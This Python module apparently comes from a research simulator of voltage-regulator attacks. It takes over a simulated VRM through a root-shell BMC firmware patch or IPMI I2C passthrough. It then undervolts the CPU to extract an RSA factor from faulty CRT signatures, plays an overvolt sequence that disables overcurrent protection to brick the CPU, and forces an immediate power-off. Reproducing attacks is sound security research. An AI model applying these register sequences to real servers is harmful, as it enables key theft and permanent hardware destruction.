"""End-to-end attack orchestration against a simulated platform.

Three control chains reach the VRM on vulnerable boards: a LAN firmware
upgrade, a KCS firmware upgrade (both ending in raw bus mastering from the
compromised BMC), and direct IPMI I2C passthrough. The undervolting
campaign steps the rail down while the CPU signs, harvests faulty
signatures and runs the gcd recovery on each; the overvolting attack plays
the four-write destruction sequence; the power-down attack drives the
Intersil immediate-off path.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass
from typing import Callable

import sympy

from . import protocol as pm
from .bmc import Channel, ChannelKind, UpgradeResult
from .cpu import CpuStatus, FaultySignature
from .crypto import CrtRsaKey, lenstra_recover
from .errors import (
    BrickedPlatform,
    ChainUnavailable,
    ChannelBlocked,
    CpuUnavailable,
    FilteredByPolicy,
    WrongProfile,
)
from .fabric import BusReply, ReplyStatus
from .firmware import enable_root_shell, parse_package, repack
from .machine import Platform
from .protocol import Direction, Transaction, VidCodec

SIGNING_COST_S = 2.0
LEVEL_CHANGE_COST_S = 0.1
REBOOT_COST_S = 60.0


class Chain(enum.Enum):
    LAN_FIRMWARE = "lan-firmware"
    KCS_FIRMWARE = "kcs-firmware"
    IPMI_I2C = "ipmi-i2c"


@dataclass(frozen=True)
class CampaignConfig:
    seed: int
    chain: Chain = Chain.IPMI_I2C
    start_mv: int = 900
    floor_mv: int = 790
    step_mv: int = 5
    signings_per_level: int = 20
    max_runs: int = 100
    rsa_bits: int = 512

    def __post_init__(self):
        if self.floor_mv >= self.start_mv:
            raise ValueError("floor_mv must be below start_mv")
        if self.step_mv <= 0:
            raise ValueError("step_mv must be positive")


@dataclass
class RunRecord:
    index: int
    outcome: str  # "correct" | "faulty" | "crash"
    glitch_mv: int | None
    trace: list[int]
    faulty_sig: int | None = None
    recovered: int | None = None


@dataclass
class CampaignResult:
    runs: list[RunRecord]
    recovered_factor: int | None
    n: int
    e: int
    simulated_seconds: float

    @property
    def stats(self) -> dict:
        faulty = sum(1 for r in self.runs if r.outcome == "faulty")
        recovered = sum(1 for r in self.runs if r.recovered is not None)
        crashes = sum(1 for r in self.runs if r.outcome == "crash")
        total = len(self.runs)
        return {
            "runs": total,
            "faulty": faulty,
            "crashes": crashes,
            "recovered": recovered,
            "recovery_rate": recovered / total if total else 0.0,
            "simulated_minutes": self.simulated_seconds / 60.0,
        }


# -- control chains --------------------------------------------------------------


def establish_chain(platform: Platform, chain: Chain) -> Callable[[int, int], BusReply]:
    """Return a VRM register writer, or raise ChainUnavailable."""
    bmc = platform.bmc
    bus = platform.bmc_bus_for_vrm()
    address = platform.main_vrm.config.address

    if chain in (Chain.LAN_FIRMWARE, Chain.KCS_FIRMWARE):
        if chain is Chain.LAN_FIRMWARE:
            channel = Channel(ChannelKind.LAN)
            user, password = next(iter(platform.config.bmc.credentials.items()))
            bmc.authenticate(channel, user, password)
        else:
            channel = Channel(ChannelKind.KCS, host_root=True)
        key = platform.firmware_key
        stock = parse_package(platform.build_stock_firmware(), key)
        patched = repack(enable_root_shell(stock, key), key)
        result: UpgradeResult = bmc.upgrade_firmware(channel, patched)
        if not result.accepted or not bmc.root_shell:
            raise ChainUnavailable(f"firmware upgrade rejected: {result.reason}")

        def write(command: int, value: int) -> BusReply:
            data_len = pm.command_info(command).data_len
            t = Transaction(address, Direction.WRITE, command, value.to_bytes(data_len, "little"))
            return bmc.raw_master(bus, t)

        return write

    channel = Channel(ChannelKind.KCS, host_root=True)

    def write(command: int, value: int) -> BusReply:
        data_len = pm.command_info(command).data_len
        payload = bytes([command]) + value.to_bytes(data_len, "little")
        try:
            return bmc.ipmi_i2c(channel, bus, address << 1, payload)
        except FilteredByPolicy as exc:
            raise ChainUnavailable(str(exc))

    # fail fast if the passthrough filter refuses VRM writes
    probe = write(pm.CMD_OPERATION, 0x00)
    if not probe.ok:
        raise ChainUnavailable("IPMI I2C passthrough cannot reach the VRM")
    return write


# -- undervolting ------------------------------------------------------------------


def run_undervolt_campaign(
    platform: Platform, key: CrtRsaKey, cfg: CampaignConfig
) -> CampaignResult:
    if platform.status == "bricked":
        raise BrickedPlatform(platform.name)
    write = establish_chain(platform, cfg.chain)
    platform.cpu.reseed(cfg.seed)
    rng = platform.cpu.rng
    message = rng.randrange(1, key.n)
    codec = VidCodec(step_mv=5)
    nominal_vid = platform.main_vrm.svid_vid

    def set_level(mv: int) -> None:
        write(pm.CMD_VOUT_COMMAND, codec.vid_for(mv))
        platform.settle()

    def enable_override() -> None:
        write(pm.CMD_VOUT_COMMAND, nominal_vid)
        write(pm.CMD_OPERATION, pm.OPERATION_PMBUS_OVERRIDE)
        write(pm.CMD_MFR_VR_CONFIG, pm.VR_CONFIG_FIX_MODE)
        platform.settle()

    def restore_nominal() -> None:
        write(pm.CMD_MFR_VR_CONFIG, 0x0000)
        write(pm.CMD_OPERATION, 0x0000)
        platform.settle()

    runs: list[RunRecord] = []
    recovered_factor: int | None = None
    clock = 0.0

    for index in range(cfg.max_runs):
        record = RunRecord(index=index, outcome="correct", glitch_mv=None, trace=[])
        enable_override()
        level = cfg.start_mv
        while level >= cfg.floor_mv:
            record.trace.append(level)
            set_level(level)
            clock += LEVEL_CHANGE_COST_S
            if platform.cpu.status is not CpuStatus.RUNNING:
                record.outcome = "crash"
                record.glitch_mv = level
                break
            faulted = False
            for _ in range(cfg.signings_per_level):
                clock += SIGNING_COST_S
                try:
                    result = platform.cpu.sign_crt_rsa(key, message)
                except CpuUnavailable:
                    record.outcome = "crash"
                    record.glitch_mv = level
                    faulted = True
                    break
                if isinstance(result, FaultySignature):
                    record.outcome = "faulty"
                    record.glitch_mv = level
                    record.faulty_sig = result.value
                    record.recovered = lenstra_recover(key.n, key.e, message, result.value)
                    if recovered_factor is None and record.recovered is not None:
                        recovered_factor = record.recovered
                    faulted = True
                    break
            if faulted:
                break
            level -= cfg.step_mv
        restore_nominal()
        if record.outcome == "crash" or platform.cpu.status is not CpuStatus.RUNNING:
            platform.reboot()
            clock += REBOOT_COST_S
        runs.append(record)

    return CampaignResult(
        runs=runs,
        recovered_factor=recovered_factor,
        n=key.n,
        e=key.e,
        simulated_seconds=clock,
    )


# -- overvolting -------------------------------------------------------------------


OVERVOLT_SEQUENCE: tuple[tuple[int, int], ...] = (
    (pm.CMD_MFR_VR_CONFIG, pm.VR_CONFIG_VID_STEP_SEL | pm.VR_CONFIG_FIX_MODE),
    (pm.CMD_MFR_OCP_TOTAL_SET, 0x0000),
    (pm.CMD_VOUT_COMMAND, 0x00FF),
    (pm.CMD_OPERATION, pm.OPERATION_PMBUS_OVERRIDE),
)


@dataclass
class OvervoltOutcome:
    peak_mv: int
    cpu_status: str
    pulses: int
    filtered: bool


def run_overvolt_attack(
    platform: Platform,
    cfg: CampaignConfig | None = None,
    pulses: int | None = None,
    ablate: int | None = None,
) -> OvervoltOutcome:
    """Play the four-write destruction sequence; `ablate` drops one write (tests)."""
    chain = cfg.chain if cfg else Chain.IPMI_I2C
    write = establish_chain(platform, chain)
    if pulses is None:
        pulses = platform.fault_model.brick_events_needed
    peak = platform.main_vrm.output_mv
    filtered = False
    fired = 0
    for _ in range(pulses):
        for i, (command, value) in enumerate(OVERVOLT_SEQUENCE):
            if i == ablate:
                continue
            reply = write(command, value)
            if reply.status is not ReplyStatus.ACK:
                filtered = True
            platform.settle()
            peak = max(peak, platform.main_vrm.output_mv)
        fired += 1
        # end of the ~1 ms pulse: drop back out of override
        write(pm.CMD_OPERATION, 0x0000)
        write(pm.CMD_MFR_VR_CONFIG, 0x0000)
        platform.settle()
        if platform.status == "bricked":
            break
    return OvervoltOutcome(
        peak_mv=peak, cpu_status=platform.status, pulses=fired, filtered=filtered
    )


# -- ASRock power-down ----------------------------------------------------------------


@dataclass
class PowerDownOutcome:
    status_after_attack: str
    status_after_remote_powercycle: str | None = None
    status_after_physical_cycle: str | None = None


def run_power_down_attack(
    platform: Platform, channel: str = "cpu", full_cycle: bool = True
) -> PowerDownOutcome:
    vrm_key = next(iter(platform.vrms))
    bus, address = vrm_key
    local_bus = None
    port = platform.fabric.masters.get(channel)
    if port is None:
        raise ChannelBlocked(f"no such master {channel!r}")
    for local, phys in port.bus_map.items():
        if phys == bus:
            local_bus = local
            break
    if local_bus is None:
        raise ChannelBlocked(f"{channel} has no route to the VRM bus")

    def send(command: int, value: int) -> BusReply:
        data_len = pm.command_info(command).data_len
        t = Transaction(address, Direction.WRITE, command, value.to_bytes(data_len, "little"))
        if channel == "cpu":
            return platform.cpu_transfer(local_bus, t)
        reply = platform.fabric.master_transfer(channel, local_bus, t)
        platform.settle()
        return reply

    page_reply = send(pm.CMD_PAGE, 0x01)
    if not page_reply.ok:
        raise ChannelBlocked(f"{channel} cannot write to the VRM")
    config_reply = send(pm.CMD_ON_OFF_CONFIG, pm.ON_OFF_CONFIG_OPERATION_SOURCE)
    if not config_reply.ok:
        raise WrongProfile("VRM refused the ON_OFF_CONFIG sequence")
    try:
        send(pm.CMD_OPERATION, 0x00)  # Immediate Off
    except CpuUnavailable:
        pass  # rail already collapsed under the CPU mid-sequence

    outcome = PowerDownOutcome(status_after_attack=platform.status)
    if full_cycle:
        outcome.status_after_remote_powercycle = platform.remote_powercycle()
        outcome.status_after_physical_cycle = platform.physical_power_cycle()
    return outcome


def factor_is_sound(n: int, factor: int) -> bool:
    if factor is None or n % factor:
        return False
    cofactor = n // factor
    return sympy.isprime(factor) and sympy.isprime(cofactor)
